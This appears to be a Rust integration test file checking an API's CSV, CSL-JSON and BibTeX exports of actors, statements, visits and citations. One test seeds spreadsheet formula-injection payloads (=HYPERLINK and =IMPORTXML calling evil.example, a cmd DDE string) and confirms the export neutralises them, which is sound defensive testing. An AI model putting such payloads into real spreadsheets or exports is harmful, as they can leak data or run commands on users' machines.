//! Other representations: CSV lists, CSL-JSON and BibTeX citations.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::helpers::*;

async fn get_as(app: &TestApp, path: &str, accept: &str) -> reqwest::Response {
    app.request(Method::GET, path)
        .header("Accept", accept)
        .send()
        .await
        .unwrap_or_else(|e| panic!("{e}"))
}

/// A tiny RFC 4180 reader for the tests: rows of fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    rows
}

#[tokio::test]
async fn every_list_is_csv_on_request() {
    let app = spawn_app().await;
    let record = seed_record(&app).await;
    // Names are one line; descriptions may hold line breaks.
    app.create_actor(json!({
        "kind": "other",
        "name": "Commas, \"quotes\" and more",
        "description": "Line breaks,\nkept"
    }))
    .await;
    let role_id = record.pledge["on_behalf_of_role_id"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    for (path, first_columns) in [
        ("/v1/actors".to_owned(), "id,slug,kind,name"),
        (
            "/v1/actors/xi-jinping/roles".to_owned(),
            "id,actor_id,actor_slug",
        ),
        ("/v1/statements".to_owned(), "id,stated_on,kind,speaker_id"),
        ("/v1/visits".to_owned(), "id,start,end,kind"),
        ("/v1/citations".to_owned(), "id,source,title,url"),
        (
            format!("/v1/citations/{}/cited-by", uuid_of(&record.article)),
            "resource,id,href",
        ),
        (
            "/v1/actors/kazakhstan/timeline".to_owned(),
            "record,date,capacity",
        ),
        (
            "/v1/actors/kazakhstan/revisions".to_owned(),
            "version,operation,changed_at",
        ),
        (
            format!("/v1/actors/xi-jinping/roles/{role_id}/revisions"),
            "version,operation",
        ),
        ("/v1/changes".to_owned(), "cursor,resource,id,operation"),
    ] {
        let response = get_as(&app, &path, "text/csv").await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        assert!(
            header(&response, "content-type").is_some_and(|t| t.starts_with("text/csv")),
            "{path}"
        );
        assert_eq!(
            header(&response, "vary").as_deref(),
            Some("Accept"),
            "{path}"
        );
        let text = response.text().await.unwrap_or_default();
        assert!(text.starts_with(first_columns), "{path}: {text}");
        let rows = parse_csv(&text);
        assert!(rows.len() >= 2, "{path}: {text}");
        assert!(
            rows.iter().all(|r| r.len() == rows[0].len()),
            "{path}: ragged rows"
        );
    }
    // Fields with commas, quotes and line breaks come back whole.
    let rows = parse_csv(
        &get_as(&app, "/v1/actors?kind=other", "text/csv")
            .await
            .text()
            .await
            .unwrap_or_default(),
    );
    assert_eq!(rows[1][3], "Commas, \"quotes\" and more");
    let description = rows[0].iter().position(|c| c == "description");
    assert_eq!(
        description.map(|i| rows[1][i].as_str()),
        Some("Line breaks,\nkept")
    );
    // Pages go on through Link, as with JSON.
    let response = get_as(&app, "/v1/actors?limit=2", "text/csv").await;
    assert!(header(&response, "link").is_some_and(|l| l.contains("rel=\"next\"")));
    // JSON stays the default, and wins when preferred.
    let response = get_as(&app, "/v1/actors", "text/csv;q=0.5, application/json").await;
    assert!(header(&response, "content-type").is_some_and(|t| t.starts_with("application/json")));
}

/// Whether a cell would start a spreadsheet formula.
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test]
async fn no_csv_cell_starts_a_formula_in_any_list() {
    let app = spawn_app().await;
    chancery::seed::load_demo(&app.pool)
        .await
        .unwrap_or_else(|e| panic!("{e:#}"));
    let kz = json(app.get("/v1/actors/kazakhstan").await).await;
    let hostile = app
        .create_actor(json!({"kind": "state", "name": "=HYPERLINK(\"http://evil.example\",\"x\")",
                             "aliases": ["@SUM(A1:A9)"], "description": "+cmd|' /C calc'!A0", "slug": "hostile"}))
        .await;
    app.create_role(
        "hostile",
        json!({"of_actor_id": kz["id"], "title": "-2+3", "start": "2022"}),
    )
    .await;
    let citation = app
        .create(
            "/v1/citations",
            json!({"source": "=1+1", "title": "\tTabbed", "excerpt": "@here"}),
        )
        .await;
    app.create("/v1/statements", json!({"speaker_id": hostile["id"], "stated_on": "2022-06", "kind": "other",
                                         "text": "=IMPORTXML(\"http://evil.example\")", "topics": ["security"],
                                         "subjects": [{"actor_id": kz["id"], "stance": "neutral"}],
                                         "citations": [{"citation_id": citation["id"], "locator": "-1", "quote": "+quote"}]}))
        .await;
    app.create("/v1/visits", json!({"visitor_ids": [hostile["id"]], "host_id": kz["id"], "start": "2022-06",
                                     "kind": "other", "place": "@Astana", "occasion": "=occasion", "summary": "-summary",
                                     "citations": [{"citation_id": citation["id"]}]}))
        .await;
    let lists = [
        "/v1/actors?q=hyperlink".to_owned(),
        "/v1/actors/hostile/roles".to_owned(),
        "/v1/statements".to_owned(),
        "/v1/visits".to_owned(),
        "/v1/citations".to_owned(),
        format!("/v1/citations/{}/cited-by", uuid_of(&citation)),
        "/v1/actors/kazakhstan/timeline?from=2022-06&to=2022-06".to_owned(),
        "/v1/actors/hostile/revisions".to_owned(),
        "/v1/changes?limit=500".to_owned(),
        "/v1/actors/kazakhstan/engagement?from=2022-06&to=2022-06".to_owned(),
        "/v1/dyads?a=kazakhstan&b=hostile&from=2022&to=2022".to_owned(),
        "/v1/network?from=2022-06&to=2022-06&level=participant".to_owned(),
    ];
    for path in lists {
        let text = get_as(&app, &path, "text/csv")
            .await
            .text()
            .await
            .unwrap_or_default();
        let rows = parse_csv(&text);
        assert!(rows.len() >= 2, "{path}: {text}");
        let cells: Vec<&String> = rows.iter().flatten().collect();
        assert!(!cells.iter().any(|c| formula(c)), "{path}: {text}");
        // What was neutralised is still there, behind the quote mark (revisions and the feed
        // hold records as JSON, which starts with `{`; a dyad's cells are kinds and counts).
        let json_cells =
            path.contains("revisions") || path.contains("changes") || path.contains("dyads");
        assert!(
            json_cells
                || cells.iter().any(|c| c.starts_with("'=")
                    || c.starts_with("'-")
                    || c.starts_with("'@")
                    || c.starts_with("'+")
                    || c.starts_with("'\t")),
            "{path} shows none of the hostile values: {text}"
        );
    }
}

#[tokio::test]
async fn citations_are_csl_json_on_request() {
    let app = spawn_app().await;
    let record = seed_record(&app).await;
    app.create("/v1/citations", json!({"source": "Eurasianet", "url": "https://eurasianet.org/x", "authors": ["A. Writer", "B. Writer"],
                                         "accessed_on": "2026-11-27", "excerpt": "railway connections"})).await;
    let response = get_as(
        &app,
        "/v1/citations",
        "application/vnd.citationstyles.csl+json",
    )
    .await;
    assert_eq!(
        header(&response, "content-type").as_deref(),
        Some("application/vnd.citationstyles.csl+json")
    );
    let items: Vec<Value> =
        serde_json::from_str(&response.text().await.unwrap_or_default()).unwrap_or_default();
    assert_eq!(items.len(), 3);
    for item in &items {
        check_csl_item(item);
    }
    let article = items
        .iter()
        .find(|i| i["id"] == record.article["id"])
        .cloned()
        .unwrap_or_default();
    assert_eq!(article["type"], "article-newspaper");
    assert_eq!(article["container-title"], "Eurasia Daily Monitor");
    assert_eq!(
        article["issued"],
        json!({"date-parts": [[2023, 1]]}),
        "a month stays a month"
    );
    assert_eq!(article["URL"], record.article["url"]);
    let web = items
        .iter()
        .find(|i| i["container-title"] == "Eurasianet")
        .cloned()
        .unwrap_or_default();
    assert_eq!(web["type"], "webpage");
    assert_eq!(
        web["author"],
        json!([{"literal": "A. Writer"}, {"literal": "B. Writer"}])
    );
    assert_eq!(web["accessed"], json!({"date-parts": [[2026, 11, 27]]}));

    let one = get_as(
        &app,
        &format!("/v1/citations/{}", uuid_of(&record.fmprc)),
        "application/vnd.citationstyles.csl+json",
    )
    .await;
    let one: Vec<Value> =
        serde_json::from_str(&one.text().await.unwrap_or_default()).unwrap_or_default();
    assert_eq!(one.len(), 1);
    assert_eq!(one[0]["issued"], json!({"date-parts": [[2022, 9, 15]]}));
}

/// The rules of the CSL-JSON data schema (csl-data.json) that our items touch: an `id` and a
/// known `type`; string variables as strings; date variables as `date-parts` of one
/// `[year, month?, day?]` with month 1–12 and day 1–31; name variables as lists of name
/// objects; no variables outside the schema's set.
fn check_csl_item(item: &Value) {
    const TYPES: &[&str] = &[
        "article",
        "article-journal",
        "article-magazine",
        "article-newspaper",
        "bill",
        "book",
        "broadcast",
        "chapter",
        "classic",
        "collection",
        "dataset",
        "document",
        "entry",
        "entry-dictionary",
        "entry-encyclopedia",
        "event",
        "figure",
        "graphic",
        "hearing",
        "interview",
        "legal_case",
        "legislation",
        "manuscript",
        "map",
        "motion_picture",
        "musical_score",
        "pamphlet",
        "paper-conference",
        "patent",
        "performance",
        "periodical",
        "personal_communication",
        "post",
        "post-weblog",
        "regulation",
        "report",
        "review",
        "review-book",
        "software",
        "song",
        "speech",
        "standard",
        "thesis",
        "treaty",
        "webpage",
    ];
    let object = item
        .as_object()
        .unwrap_or_else(|| panic!("not an object: {item}"));
    assert!(object["id"].is_string(), "{item}");
    assert!(
        object["type"].as_str().is_some_and(|t| TYPES.contains(&t)),
        "{item}"
    );
    for (key, value) in object {
        match key.as_str() {
            "id" | "type" => {}
            "title" | "container-title" | "URL" | "language" | "note" | "abstract"
            | "publisher" => {
                assert!(value.is_string(), "{key}: {value}");
            }
            "issued" | "accessed" => {
                let parts = value["date-parts"]
                    .as_array()
                    .unwrap_or_else(|| panic!("{key}: {value}"));
                assert_eq!(parts.len(), 1, "{key}: {value}");
                let date = parts[0].as_array().cloned().unwrap_or_default();
                assert!((1..=3).contains(&date.len()), "{key}: {value}");
                assert!(date.iter().all(Value::is_i64), "{key}: {value}");
                if let Some(month) = date.get(1).and_then(Value::as_i64) {
                    assert!((1..=12).contains(&month), "{key}: {value}");
                }
                if let Some(day) = date.get(2).and_then(Value::as_i64) {
                    assert!((1..=31).contains(&day), "{key}: {value}");
                }
            }
            "author" => {
                let names = value.as_array().unwrap_or_else(|| panic!("{key}: {value}"));
                assert!(
                    names
                        .iter()
                        .all(|n| n["literal"].is_string() || n["family"].is_string()),
                    "{value}"
                );
            }
            other => panic!("`{other}` is not a CSL variable we mean to write"),
        }
    }
}

#[tokio::test]
async fn citations_are_bibtex_on_request_and_parse_back() {
    let app = spawn_app().await;
    let record = seed_record(&app).await;
    app.create("/v1/citations", json!({"source": "Tricky & Co {50%}", "title": "Costs_of $transit# ~ok^",
                                         "authors": ["Ann Author", "Bob Writer"], "published_on": "2022", "language": "en"})).await;
    let response = get_as(&app, "/v1/citations", "application/x-bibtex").await;
    assert_eq!(
        header(&response, "content-type").as_deref(),
        Some("application/x-bibtex")
    );
    let text = response.text().await.unwrap_or_default();
    let bibliography =
        biblatex::Bibliography::parse(&text).unwrap_or_else(|e| panic!("{e:?}\n{text}"));
    assert_eq!(bibliography.len(), 3, "{text}");

    let article = bibliography
        .iter()
        .find(|e| {
            e.key
                .ends_with(&uuid_of(&record.article).replace('-', "")[20..])
        })
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(article.entry_type.to_string(), "article");
    let field = |entry: &biblatex::Entry, name: &str| {
        entry
            .get(name)
            .map(biblatex::ChunksExt::format_verbatim)
            .unwrap_or_default()
    };
    assert_eq!(
        field(article, "title"),
        "Kazakhstan's Expanding Multi-Vector Foreign Policy"
    );
    assert_eq!(field(article, "journal"), "Eurasia Daily Monitor");
    assert_eq!(field(article, "date"), "2023-01");
    assert_eq!(
        field(article, "url"),
        record.article["url"].as_str().unwrap_or_default()
    );

    let tricky = bibliography
        .iter()
        .find(|e| field(e, "journal").contains("Tricky"))
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(field(tricky, "journal"), "Tricky & Co {50%}");
    assert!(
        field(tricky, "title").contains("Costs_of $transit#"),
        "{}",
        field(tricky, "title")
    );
    assert_eq!(field(tricky, "author"), "Ann Author and Bob Writer");

    // Hostile braces cannot unbalance an entry, nor the list it is in.
    for title in [
        "Unbalanced } brace",
        "{ never closed",
        "}{ backwards",
        "a \\} b \\{",
        "}}}",
    ] {
        let created = app
            .create(
                "/v1/citations",
                json!({"source": "Hostile", "title": title}),
            )
            .await;
        let one = get_as(
            &app,
            &format!("/v1/citations/{}", uuid_of(&created)),
            "application/x-bibtex",
        )
        .await;
        let text = one.text().await.unwrap_or_default();
        let parsed = biblatex::Bibliography::parse(&text)
            .unwrap_or_else(|e| panic!("{title}: {e:?}\n{text}"));
        assert_eq!(parsed.len(), 1, "{title}: {text}");
    }
    let all = get_as(&app, "/v1/citations?limit=500", "application/x-bibtex").await;
    let text = all.text().await.unwrap_or_default();
    let parsed = biblatex::Bibliography::parse(&text).unwrap_or_else(|e| panic!("{e:?}\n{text}"));
    assert_eq!(parsed.len(), 3 + 5, "{text}");
    // And by pybtex, the reader that failed on an unbalanced brace.
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let setup = tokio::process::Command::new(root.join("tests/readers/setup"))
        .output()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        setup.status.success(),
        "{}",
        String::from_utf8_lossy(&setup.stderr)
    );
    let readers = std::path::PathBuf::from(String::from_utf8_lossy(&setup.stdout).trim());
    let file = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("citations-{}.bib", uuid::Uuid::now_v7().simple()));
    std::fs::write(&file, &text).unwrap_or_else(|e| panic!("{e}"));
    let checked = tokio::process::Command::new(readers.join("venv/bin/python"))
        .arg(root.join("tests/readers/bibtex_check.py"))
        .arg(&file)
        .arg("8")
        .output()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(
        checked.status.success(),
        "pybtex: {}{}",
        String::from_utf8_lossy(&checked.stdout),
        String::from_utf8_lossy(&checked.stderr)
    );

    let one = get_as(
        &app,
        &format!("/v1/citations/{}", uuid_of(&record.fmprc)),
        "application/x-bibtex",
    )
    .await;
    let one = biblatex::Bibliography::parse(&one.text().await.unwrap_or_default())
        .unwrap_or_else(|e| panic!("{e:?}"));
    let entry = one.iter().next().unwrap_or_else(|| panic!("no entry"));
    assert_eq!(entry.entry_type.to_string(), "misc");
    assert_eq!(field(entry, "howpublished"), "Fmprc.gov.cn");
}
